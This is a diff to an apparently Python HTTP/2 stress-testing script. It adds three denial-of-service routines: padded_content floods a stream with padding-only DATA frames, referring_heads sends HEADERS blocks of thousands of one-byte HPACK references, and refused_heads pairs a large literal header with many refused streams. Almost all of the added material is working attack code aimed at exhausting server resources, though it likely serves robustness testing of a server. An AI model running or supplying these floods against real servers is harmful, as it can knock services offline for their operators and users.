@@ -6,7 +6,7 @@ from target import Pusher, has_ended
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
-END_STREAM, END_HEADERS = 1, 4
+END_STREAM, END_HEADERS, PADDED = 1, 4, 8
 CANCEL = struct.pack(">I", 8)
 INITIAL_WINDOW = 4
 # Streams beyond the default of --http2-streams are refused.
@@ -278,3 +278,42 @@ def faulty_streams(target, count, kind):
         )
 
     attack(target, count, act, most=500)
+
+
+def padded_content(target, count):
+    """Sends one upload as DATA frames that consist of padding."""
+
+    def act(client):
+        start = b""
+        if client.stream == 1:
+            client.next_streams(1)
+            start = frame(HEADERS, END_HEADERS, 1, request(b"/echo", b"POST"))
+        return start + frame(DATA, PADDED, 1, b"\0") * 1500
+
+    attack(target, count, act, most=300)
+
+
+def referring_heads(target, count):
+    """Sends heads of thousands of references, each of one byte, below the limit of a header list."""
+
+    def act(client):
+        return b"".join(
+            frame(HEADERS, END_STREAM | END_HEADERS, stream, SMALL + bytes([0x90]) * 7000) for stream in client.next_streams(5)
+        )
+
+    attack(target, count, act, most=100)
+
+
+def refused_heads(target, count):
+    """Sends heads that are refused, each with a long list behind a few bytes."""
+
+    def act(client):
+        begin = b""
+        if client.stream == 1:
+            field = literal(b"x", b"y" * 3900, pattern=0x40)
+            begin = frame(HEADERS, END_STREAM | END_HEADERS, client.next_streams(1)[0], request() + field)
+        return begin + b"".join(
+            frame(HEADERS, END_STREAM | END_HEADERS, stream, request() + b"\xbe" * 60) for stream in client.next_streams(50)
+        )
+
+    attack(target, count, act, most=300)
